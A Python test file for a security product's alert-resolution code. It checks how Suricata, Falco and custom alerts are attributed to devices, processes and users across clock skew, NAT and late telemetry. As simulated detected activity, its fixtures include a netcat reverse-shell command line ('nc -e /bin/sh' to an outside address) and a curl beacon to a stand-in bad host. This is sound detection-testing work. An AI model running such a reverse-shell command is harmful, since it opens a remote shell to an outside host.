"""Whom an alert is about: the device, process and user, with a wrong clock, behind a NAT, and afterwards."""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from typing import Any

from sqlalchemy import func, select, update

from shieldwall.alerts.models import Alert, Incident
from shieldwall.detection.external.flows import Ask
from shieldwall.detection.external.models import ReceivedAlert
from shieldwall.detection.external.resolution import resolve
from shieldwall.detection.external.schema import read
from shieldwall.times import now, to_text
from tests.detection.external.conftest import BAD, DB, GATEWAY, WEB, World, connection, suricata

CURL = "curl https://bad.example/700"


def test_the_alert_shows_the_process_and_user_behind_the_connection(world: World) -> None:
    world.report(connection())
    outcome = world.one(suricata())
    assert (outcome.result, outcome.machine_id) == ("created", WEB)
    assert outcome.confidence > 90
    alert = world.alert(outcome.alert_id)
    assert (alert.title, alert.severity, alert.category) == ("ET MALWARE Beacon", "High", "CommandAndControl")
    assert (alert.detection_source, alert.detector_id) == ("ThirdPartySensors", "2024897")
    assert (alert.computer_dns_name, alert.mitre_techniques) == ("web01.contoso.com", ["T1071.001"])
    assert alert.related_user == {"userName": "eve", "domainName": "web01"}
    assert world.kinds(outcome.alert_id) == {
        "Process": [CURL],
        "User": ["eve"],
        "Ip": [BAD],
        "Url": ["bad.example"],
    }
    assert world.received(outcome.alert_id).state == "Settled"


def test_it_joins_the_incident_of_the_devices_own_alert(
    world: World, list_indicator: Callable[..., None]
) -> None:
    list_indicator(BAD)
    world.report(connection())
    outcome = world.one(suricata())
    with world.database.read(world.tenant) as session:
        own = session.scalars(select(Alert).where(Alert.detection_source == "CustomerTI")).one()
    assert own.incident_id == outcome.incident_id


def test_a_clock_that_is_ahead_is_borne(world: World) -> None:
    world.report(connection())
    outcome = world.one(suricata(when=now() + timedelta(seconds=90)))
    assert outcome.machine_id == WEB
    assert world.kinds(outcome.alert_id)["Process"] == [CURL]


def test_the_nearest_of_connections_with_the_same_ports_is_the_one(world: World) -> None:
    earlier = now() - timedelta(minutes=40)
    world.report(connection(pid=650, when=earlier), connection())
    assert world.kinds(world.one(suricata()).alert_id)["Process"] == [CURL]
    outcome = world.one(suricata(when=earlier, flow_id=2))
    assert world.kinds(outcome.alert_id)["Process"] == ["curl https://bad.example/650"]


def test_behind_a_nat_the_far_side_and_the_time_tell_it(world: World) -> None:
    world.report(connection())
    world.report(connection("11.4.4.4", local=("10.0.0.6", 40001)), device=DB)
    outcome = world.one(suricata(source=(GATEWAY, 61234)))
    assert outcome.machine_id == WEB
    assert 50 <= outcome.confidence < 90
    kinds = world.kinds(outcome.alert_id)
    assert (kinds["Process"], kinds["Ip"]) == ([CURL], [BAD])


def test_two_devices_behind_a_nat_are_not_guessed_between(world: World) -> None:
    world.report(connection())
    world.report(connection(local=("10.0.0.6", 50123)), device=DB)
    outcome = world.one(suricata(source=(GATEWAY, 61234)))
    assert (outcome.result, outcome.machine_id, outcome.confidence) == ("created", None, 0)
    kept = world.one(suricata(source=(GATEWAY, 50123), flow_id=2))
    assert kept.machine_id == DB, "the gateway kept the port"


def test_another_device_of_the_network_is_not_taken_for_the_source(world: World) -> None:
    world.report(connection())
    outcome = world.one(suricata(source=("10.0.0.99", 40555)))
    assert outcome.machine_id is None
    assert world.kinds(outcome.alert_id)["Ip"] == ["10.0.0.99", BAD]


def test_a_clock_that_was_learned_tells_connections_behind_a_nat(world: World) -> None:
    ahead = timedelta(seconds=90)
    far = "11.3.3.3"
    for number in range(3):
        local = ("10.0.0.5", 41000 + number)
        world.report(connection(local=local))
        assert world.one(suricata(local, when=now() + ahead, flow_id=100 + number)).machine_id == WEB
    world.report(connection(far, local=("10.0.0.5", 42000), pid=800))
    world.report(connection(far, local=("10.0.0.6", 42001), pid=801, when=now() + ahead), device=DB)
    outcome = world.one(suricata((GATEWAY, 61111), (far, 443), when=now() + ahead))
    assert outcome.machine_id == WEB, "by the sensor's own clock it would be the other device"
    first = world.alert(outcome.alert_id).first_event_time
    assert first is not None
    assert abs(first - now()) < timedelta(seconds=30), "the alert's time is by our clocks"


def test_an_inbound_alert_is_of_the_device_that_was_called(world: World) -> None:
    accepted = connection("11.5.5.5", 55000, local=("10.0.0.5", 22), ActionType="InboundConnectionAccepted")
    world.report(accepted)
    outcome = world.one(suricata(("11.5.5.5", 55000), ("10.0.0.5", 22)))
    assert outcome.machine_id == WEB
    assert world.kinds(outcome.alert_id)["Ip"] == ["11.5.5.5"]


def test_between_two_devices_it_is_of_the_one_that_connected(world: World) -> None:
    world.report(connection("10.0.0.6", 5432))
    called = connection("10.0.0.5", 40001, local=("10.0.0.6", 5432), pid=900)
    world.report({**called, "ActionType": "InboundConnectionAccepted"}, device=DB)
    assert world.one(suricata(destination=("10.0.0.6", 5432))).machine_id == WEB


def test_late_telemetry_settles_an_alert_and_moves_it(
    world: World, list_indicator: Callable[..., None]
) -> None:
    list_indicator(BAD)
    outcome = world.one(suricata(source=(GATEWAY, 61234)))
    assert outcome.machine_id is None
    assert world.kinds(outcome.alert_id) == {"Ip": [GATEWAY, BAD], "Url": ["bad.example"]}
    assert world.external.retry() == 0, "it is not due"
    world.report(connection())
    assert world.external.retry() == 1, "the connection made it due"
    alert = world.alert(outcome.alert_id)
    assert (alert.machine_id, alert.computer_dns_name) == (WEB, "web01.contoso.com")
    assert world.kinds(outcome.alert_id)["Process"] == [CURL]
    with world.database.read(world.tenant) as session:
        own = session.scalars(select(Alert).where(Alert.detection_source == "CustomerTI")).one()
        open_ones = select(func.count()).select_from(Incident).where(Incident.status == "Active")
        assert session.scalar(open_ones) == 1
    assert own.incident_id == alert.incident_id
    assert world.external.retry() == 0


def test_what_is_never_found_is_given_up(world: World) -> None:
    outcome = world.one(suricata(source=("10.0.0.99", 40001)))
    for _ in range(30):
        if world.received(outcome.alert_id).state == "GivenUp":
            break
        with world.database.session(world.tenant) as session:
            session.execute(update(ReceivedAlert).values(next_try=now()))
        world.external.retry()
    row = world.received(outcome.alert_id)
    assert (row.state, row.next_try) == ("GivenUp", None)
    assert world.alert(outcome.alert_id).status == "New"


def test_telemetry_of_others_does_not_use_up_the_tries(world: World) -> None:
    outcome = world.one(suricata(source=("10.0.0.99", 40001)))
    for number in range(20):
        world.report(connection(local=("10.0.0.5", 40100 + number)))
        world.external.retry()
    assert world.received(outcome.alert_id).state == "Waiting"


def ours(**more: Any) -> dict[str, Any]:
    """An alert in our own schema."""
    return {
        "vendor": "Contoso",
        "product": "Sensor",
        "time": to_text(now()),
        "title": "Something bad",
        "severity": "High",
        **more,
    }


def test_a_device_is_found_by_id_name_hardware_address_and_lease(world: World) -> None:
    for device in (
        {"id": WEB.upper()},
        {"name": "WEB01.contoso.com"},
        {"name": "web01"},
        {"macAddresses": ["02-00-00-00-00-05"]},
        {"addresses": ["10.0.0.5"]},
    ):
        assert world.one(ours(device=device)).machine_id == WEB, device
    for device in ({"name": "web01.fabrikam.com"}, {"name": "web"}, {"addresses": ["10.0.0.77"]}):
        assert world.one(ours(device=device)).machine_id is None, device


def test_an_address_is_of_the_device_that_had_it_then(world: World) -> None:
    for device, address, hours in ((WEB, "10.9.9.9", 3), (WEB, "10.9.9.1", 1), (DB, "10.9.9.9", 1)):
        lease = {
            "Timestamp": now() - timedelta(hours=hours),
            "DeviceId": device,
            "MacAddress": f"02:00:00:00:01:{device[0]:0>2}",
            "IPAddresses": f'[{{"IPAddress":"{address}"}}]',
        }
        world.store.insert_rows("DeviceNetworkInfo", world.tenant, [lease])
    before = to_text(now() - timedelta(hours=2))
    named = {"addresses": ["10.9.9.9"]}
    assert world.one(ours(device=named, time=before)).machine_id == WEB
    assert world.one(ours(device=named)).machine_id == DB


def test_a_process_of_a_device_is_found_by_its_id_and_name(world: World) -> None:
    started = now() - timedelta(minutes=1)
    world.report(
        {
            "Table": "DeviceProcessEvents",
            "Timestamp": to_text(started),
            "ActionType": "ProcessCreated",
            "FileName": "nc",
            "FolderPath": "/usr/bin/nc",
            "ProcessId": 4321,
            "ProcessCommandLine": "nc -e /bin/sh 203.0.113.9 4444",
            "ProcessCreationTime": to_text(started),
            "AccountName": "eve",
            "SHA256": "d" * 64,
        }
    )
    falco = {
        "uuid": "f-1",
        "time": to_text(now()),
        "rule": "Netcat Remote Code Execution",
        "priority": "Warning",
        "output": "Netcat runs inside",
        "hostname": "web01",
        "tags": ["mitre_execution", "T1059"],
        "output_fields": {"proc.pid": 4321, "proc.name": "nc", "user.name": "eve"},
    }
    outcome = world.one(falco)
    assert (outcome.machine_id, world.alert(outcome.alert_id).category) == (WEB, "Execution")
    assert world.kinds(outcome.alert_id)["Process"] == ["nc -e /bin/sh 203.0.113.9 4444"]
    other = world.one({**falco, "uuid": "f-2", "output_fields": {"proc.pid": 4321, "proc.name": "sshd"}})
    assert world.kinds(other.alert_id)["Process"] == ["sshd"], "another process had that number"


def test_alerts_of_one_request_are_found_as_each_alone(world: World) -> None:
    """Of every way there is, the same alerts together and each in a request of its own."""
    earlier = now() - timedelta(minutes=40)
    last_day = now() - timedelta(hours=20)
    world.report(
        connection(),
        connection(pid=650, when=earlier),
        connection("11.3.3.3", local=("10.0.0.5", 42000), pid=800),
        connection("11.6.6.6", local=("10.0.0.5", 42100), pid=810, when=last_day),
        connection("11.8.8.8", local=("10.0.0.5", 42200), RemoteUrl="Late.Example"),
        connection("11.5.5.5", 55000, local=("10.0.0.5", 22), ActionType="InboundConnectionAccepted"),
        connection("10.0.0.6", 5432, local=("10.0.0.5", 43000)),
        {
            "Table": "DeviceProcessEvents",
            "Timestamp": to_text(earlier),
            "ActionType": "ProcessCreated",
            "FileName": "nc",
            "FolderPath": "/usr/bin/nc",
            "ProcessId": 4321,
            "ProcessCreationTime": to_text(earlier),
            "SHA256": "d" * 64,
        },
    )
    called = connection("10.0.0.5", 43000, local=("10.0.0.6", 5432), pid=900)
    world.report(
        connection("11.3.3.3", local=("10.0.0.6", 42001), pid=801, when=earlier),
        connection("11.7.7.7", local=("10.0.0.6", 42300), pid=820),
        connection("11.7.7.7", local=("10.0.0.6", 42301), pid=821),
        {**called, "ActionType": "InboundConnectionAccepted"},
        device=DB,
    )

    def network(source: str, port: int | None, far: str, far_port: int = 443, **more: Any) -> dict[str, Any]:
        ends = {"sourceAddress": source, "destinationAddress": far, "destinationPort": far_port}
        return {"network": ends | ({"sourcePort": port} if port else {}) | more}

    bodies = [
        network("10.0.0.5", 40001, BAD),
        network("10.0.0.5", 40001, BAD) | {"time": to_text(earlier)},
        network("10.0.0.5", 42100, "11.6.6.6") | {"time": to_text(last_day)},
        network(GATEWAY, 61234, "11.3.3.3"),
        network(GATEWAY, 61234, "11.3.3.3") | {"time": to_text(earlier)},
        network(GATEWAY, 61234, BAD, translatedSourceAddress="10.0.0.5", translatedSourcePort=40001),
        network(GATEWAY, None, "11.7.7.7"),
        network("11.5.5.5", 55000, "10.0.0.5", 22, direction="Inbound"),
        network("10.0.0.5", 43000, "10.0.0.6", 5432),
        network("10.0.0.5", 1, "11.9.9.9"),
        network("10.0.0.6", 1, "11.9.9.9") | {"time": to_text(last_day)},
        network("10.0.0.99", 40555, BAD),
        network("10.0.0.5", 1, "11.9.9.9", domain="late.example"),
        {"device": {"id": WEB.upper()}},
        {"device": {"name": "DB01"}},
        {"device": {"name": "web01"}},
        {"device": {"name": "web01.fabrikam.com"}},
        {"device": {"macAddresses": ["02-00-00-00-00-06"]}},
        {"device": {"addresses": ["10.0.0.77", "10.0.0.6"]}},
        {"device": {"name": "web01"}, "processes": [{"processId": 4321, "name": "nc"}]},
        {"device": {"name": "web01"}, "processes": [{"processId": 4321, "name": "sshd"}]},
        {"device": {"name": "web01"}, "files": [{"name": "x", "sha256": "D" * 64}, {"sha256": "e" * 64}]},
        {"device": {"name": "db01"}, "files": [{"name": "x", "sha256": "d" * 64}]},
        {},
    ]
    asks = [Ask(read(ours(sensor=str(number)) | body), 0.0) for number, body in enumerate(bodies)]
    with world.database.read(world.tenant) as session:
        alone = [resolve(session, world.store, world.tenant, [ask])[0] for ask in asks]
        together = resolve(session, world.store, world.tenant, asks)
    for body, one, among in zip(bodies, alone, together, strict=True):
        assert among == one, body
    assert [{WEB: "web", DB: "db", None: ""}[each.device_id] for each in alone] == [
        *("web", "web", "web", "web", "db", "web", "db", "web", "web", "web", "", "", "web"),
        *("web", "db", "web", "", "db", "db", "web", "web", "web", "db", ""),
    ]
    assert [number for number, each in enumerate(alone) if each.match] == [0, 1, 2, 3, 4, 5, 7, 8, 12, 19, 21]
    assert together[21].match is not None
    assert together[21].match.row["FolderPath"] == "/usr/bin/nc"
